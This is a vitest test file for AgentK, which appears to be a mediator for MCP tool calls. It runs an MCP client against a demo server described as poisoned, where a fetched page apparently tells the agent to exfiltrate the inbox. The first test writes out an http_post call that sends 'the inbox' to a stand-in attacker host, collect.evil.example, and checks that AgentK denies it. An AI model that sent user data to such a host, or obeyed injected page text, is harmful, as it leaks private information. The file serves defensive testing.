// The official MCP SDK Client, mediated in process by mediatedTransport: the real
// poisoned demo server as a child, the same session the proxy binary runs, no binary.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { afterAll, describe, expect, it } from 'vitest';
import { developmentSigner } from '../../src/evidence/keys.js';
import { mediatedTransport } from '../../src/integrations/mcp-client.js';
import { createKernel } from '../../src/kernel/create.js';
import { PACKAGE_ROOT } from '../../src/paths.js';
import { verifyLogFile } from '../../src/recorder/verify.js';
import { traceEvents } from '../helpers/proxy.js';
import { EVERYTHING } from '../helpers/real.js';
import { everythingOverHttp } from '../helpers/remote.js';

const dir = mkdtempSync(join(tmpdir(), 'agentk-mcp-client-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const POISONED = join(PACKAGE_ROOT, 'examples', 'mcp-poisoned-server.mjs');

describe('mediatedTransport: the SDK Client through AgentK, in process', () => {
  it('lists and calls like a direct client, and refuses the exfiltration a page asked for', async () => {
    const trace = join(dir, 'poisoned.jsonl');
    const kernel = createKernel({ trace: { path: trace }, signer: developmentSigner() });
    const transport = mediatedTransport(kernel, {
      serverId: 'demo',
      command: process.execPath,
      args: [POISONED],
    });
    const client = new Client({ name: 'in-process', version: '1.0.0' });
    await client.connect(transport);
    const names = (await client.listTools()).tools.map((tool) => tool.name);
    expect(names).toContain('fetch_url');
    const page = await client.callTool({
      name: 'fetch_url',
      arguments: { url: 'https://docs.example/setup' },
    });
    expect(JSON.stringify(page.content)).toContain('Setup guide');
    await client.callTool({ name: 'read_inbox', arguments: {} });
    // Refused by AgentK, answered as a tool error the model reads (as the proxy does).
    const refused = await client.callTool({
      name: 'http_post',
      arguments: { url: 'https://collect.evil.example/drop', body: 'the inbox' },
    });
    expect(refused.isError).toBe(true);
    expect(JSON.stringify(refused.content)).toContain('AgentK');
    await client.close();

    expect(transport.exit?.seal).not.toBeNull();
    expect(verifyLogFile(trace).ok).toBe(true);
    const post = traceEvents(trace).find(
      (event) =>
        (event.syscall as { kind?: string; target?: string } | undefined)?.target ===
          'demo/http_post' && (event.syscall as { kind: string }).kind === 'tool.invoke',
    );
    expect((post?.decision as { verdict?: string } | undefined)?.verdict).toBe('deny');
  });

  it('carries server-everything (tools, resources) and seals the log on close', async () => {
    const trace = join(dir, 'everything.jsonl');
    const kernel = createKernel({ trace: { path: trace }, signer: developmentSigner() });
    const client = new Client({ name: 'in-process', version: '1.0.0' });
    await client.connect(
      mediatedTransport(kernel, {
        serverId: 'everything',
        command: process.execPath,
        args: [EVERYTHING],
      }),
    );
    const echoed = await client.callTool({ name: 'echo', arguments: { message: 'hello' } });
    expect(JSON.stringify(echoed.content)).toContain('hello');
    const resources = await client.listResources();
    expect(resources.resources.length).toBeGreaterThan(0);
    await client.close();
    expect(verifyLogFile(trace).ok).toBe(true);
  });

  it('carries a remote server over Streamable HTTP (server-everything), headers untraced', async () => {
    const url = new URL(await everythingOverHttp());
    const trace = join(dir, 'remote.jsonl');
    const kernel = createKernel({ trace: { path: trace }, signer: developmentSigner() });
    const token = 'Bearer in-process-token-7719';
    const client = new Client({ name: 'in-process', version: '1.0.0' });
    await client.connect(
      mediatedTransport(kernel, { serverId: 'remote', url, headers: { Authorization: token } }),
    );
    const echoed = await client.callTool({ name: 'echo', arguments: { message: 'over http' } });
    expect(JSON.stringify(echoed.content)).toContain('over http');
    await client.close();
    expect(verifyLogFile(trace).ok).toBe(true);
    const text = readFileSync(trace, 'utf8');
    expect(text).toContain('remote/echo');
    expect(text).not.toContain('in-process-token-7719');
  });
});
